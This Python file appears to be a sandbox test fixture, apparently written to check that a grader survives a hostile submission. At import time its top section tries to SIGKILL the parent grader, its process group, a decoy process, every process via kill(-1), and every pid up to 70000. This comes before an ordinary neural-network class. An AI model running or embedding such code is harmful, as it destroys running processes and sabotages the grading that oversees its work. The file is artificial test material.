"""Attack: kill the grader and everyone else: the parent, its process group, pid 1, a decoy process of
the same user that the test started, kill(-1), and every pid up to 70000.
"""
import numpy as np
import os
import signal


DECOY = __DECOY_PID__


def attempt(label, fn):
    try:
        fn()
        print("SIGNALLED", label)
    except OSError as exc:
        print("REFUSED", label, type(exc).__name__)


attempt("parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
group = os.getpgid(os.getppid())
if group not in (0, os.getpgrp()):  # in a PID namespace the parent's group cannot even be named
    attempt("parent's group", lambda: os.killpg(group, signal.SIGKILL))
attempt("decoy", lambda: os.kill(DECOY, signal.SIGKILL))
attempt("decoy's group", lambda: os.killpg(DECOY, signal.SIGKILL))
try:  # kill(-1) reports success even when every target refused, so its effect is what the test checks
    os.kill(-1, signal.SIGKILL)
    print("TRIED everyone")
except OSError as exc:
    print("TRIED everyone", type(exc).__name__)
hits = 0
me = os.getpid()
for pid in range(2, 70000):
    if pid != me:
        try:
            os.kill(pid, signal.SIGKILL)
            hits += 1
        except OSError:
            pass
print("SWEEP", hits)


class NeuralNetwork:
    def __init__(self, cf):
        self.cf = list(cf)
        self.w1 = np.random.randn(cf[1], cf[0]) / np.sqrt(cf[0])
        self.b1 = np.zeros((cf[1], 1))
        self.w2 = np.random.randn(cf[2], cf[1]) / np.sqrt(cf[1])
        self.b2 = np.zeros((cf[2], 1))
        self.w3 = np.random.randn(cf[3], cf[2]) / np.sqrt(cf[2])
        self.b3 = np.zeros((cf[3], 1))

    def sigmoid(self, z):
        return 1.0 / (1.0 + np.exp(-z))

    def forward(self, X):
        self.z1 = self.w1 @ X + self.b1
        self.a1 = self.sigmoid(self.z1)
        self.z2 = self.w2 @ self.a1 + self.b2
        self.a2 = self.sigmoid(self.z2)
        self.z3 = self.w3 @ self.a2 + self.b3
        self.a3 = self.sigmoid(self.z3)
        return self.a3

    def update(self, lr, y, X):
        m = X.shape[1]
        d3 = self.a3 - y
        d2 = (self.w3.T @ d3) * self.a2 * (1 - self.a2)
        d1 = (self.w2.T @ d2) * self.a1 * (1 - self.a1)
        self.w3 -= lr * d3 @ self.a2.T / m
        self.b3 -= lr * d3.sum(axis=1, keepdims=True) / m
        self.w2 -= lr * d2 @ self.a1.T / m
        self.b2 -= lr * d2.sum(axis=1, keepdims=True) / m
        self.w1 -= lr * d1 @ X.T / m
        self.b1 -= lr * d1.sum(axis=1, keepdims=True) / m
